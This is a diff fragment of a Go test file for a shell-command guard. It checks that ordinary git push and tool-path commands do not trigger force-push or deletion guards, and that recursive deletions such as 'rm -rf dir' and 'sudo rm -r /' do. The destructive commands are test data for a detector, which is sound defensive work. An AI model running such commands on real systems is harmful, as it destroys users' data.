+		{`git push -u origin "$(git branch --show-current)"`, forcePush},
+		{`git push origin "$(git rev-parse --abbrev-ref HEAD)"`, forcePush},
+		{`git push --set-upstream origin "$(git branch --show-current)"`, forcePush},
+		{`git push origin "$(git symbolic-ref --short HEAD)"`, forcePush},
+		{`"$HOME/.local/bin/uv" sync`, anyRm},
+		{`"$HOME/.cargo/bin/cargo" build`, anyRm},
+		{`"$(pwd)/node_modules/.bin/jest"`, anyRm},
+		{`"${VIRTUAL_ENV}/bin/python" -m pytest`, anyRm},
+		{`git push origin "feature/$TICKET"`, forcePush},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestRmRIsTheGuardForRecursiveDeletion(t *testing.T) {
+	match := []classRow{
+		{"rm -r dir", rmR},
+		{"rm -R dir", rmR},
+		{"rm --recursive dir", rmR},
+		{"rm -rv dir", rmR},
+		{"rm -rf dir", rmR},
+		{"sudo rm -r /", rmR},
+	}
+	quiet := []classRow{
+		{"rm -f file", rmR},
+		{"rm file", rmR},
+		{"rmdir dir", rmR},
+		{"rm -i file", rmR},
+	}
+	checkClass(t, match, quiet)
+}
